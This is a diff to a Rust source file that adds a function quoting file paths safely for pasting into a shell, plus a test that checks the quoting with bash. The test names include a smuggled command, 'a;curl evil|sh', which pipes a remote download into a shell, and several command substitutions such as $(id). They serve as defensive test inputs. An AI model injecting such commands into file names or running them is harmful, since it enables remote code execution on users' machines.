@@ -36,11 +36,38 @@ pub fn controls(text: &str) -> String {
     out
 }
 
-/// Adds a name to a record as its `path`: escaped, and exactly in `path_b64` when it is not UTF-8.
+/// Returns a path as a word of a command that somebody may paste into a shell: whatever it is called, nothing but the path.
+pub fn shell(path: &Path) -> String {
+    let bytes = path.as_os_str().as_encoded_bytes();
+    // No flag, wherever it stands.
+    let dash = if bytes.starts_with(b"-") { "./" } else { "" };
+    let plain = |char: char| char.is_alphanumeric() || "_./,:@+-".contains(char);
+    match path.to_str() {
+        Some(text) if !text.is_empty() && text.chars().all(plain) => format!("{dash}{text}"),
+        Some(text) if text == controls(text) => format!("'{dash}{}'", text.replace('\'', r"'\''")),
+        // As bash, zsh and ksh have it: all but letters and digits by their bytes.
+        _ => {
+            let mut word = format!("$'{dash}");
+            for byte in bytes {
+                match byte {
+                    b' '..=b'~' if !matches!(byte, b'\'' | b'\\') => word.push(char::from(*byte)),
+                    _ => word.push_str(&format!("\\x{byte:02x}")),
+                }
+            }
+            word.push('\'');
+            word
+        }
+    }
+}
+
+/// Adds a name to a record as its `path`; one that is not UTF-8 escaped, and exactly in `path_b64`.
 pub fn json_path(record: &mut serde_json::Value, path: &[u8]) {
-    record["path"] = bytes(path).into();
-    if std::str::from_utf8(path).is_err() {
-        record["path_b64"] = data_encoding::BASE64.encode(path).into();
+    match std::str::from_utf8(path) {
+        Ok(path) => record["path"] = path.into(),
+        Err(_) => {
+            record["path"] = bytes(path).into();
+            record["path_b64"] = data_encoding::BASE64.encode(path).into();
+        }
     }
 }
 
@@ -97,6 +124,39 @@ fn is_unsafe(char: char) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_shell_reads_nothing_but_the_path() {
+        use std::os::unix::ffi::OsStrExt as _;
+
+        let names = [
+            &b"flights"[..],
+            b"./a b",
+            b"a;curl evil|sh",
+            b"$(id) `id` \"x\" *?[a] ~ # !",
+            b"it's",
+            b"-rf",
+            b"-r f",
+            b"",
+            b"a\nb\\'\x1b[2J",
+            b"\xff\xfe",
+            "müsli \u{202e}txt".as_bytes(),
+            b"=ls",
+        ];
+        for name in names {
+            let word = shell(Path::new(std::ffi::OsStr::from_bytes(name)));
+            assert!(!word.chars().any(is_unsafe), "{word:?}");
+            let mut given = name.to_vec();
+            if name.starts_with(b"-") {
+                given.splice(..0, *b"./");
+            }
+            let script = format!("printf %s {word}");
+            let output = std::process::Command::new("bash").args(["-c", &script]).output();
+            if let Ok(output) = output {
+                assert_eq!(output.stdout, given, "{word}");
+            }
+        }
+    }
 
     #[test]
     fn names_come_out_as_the_table_says() {
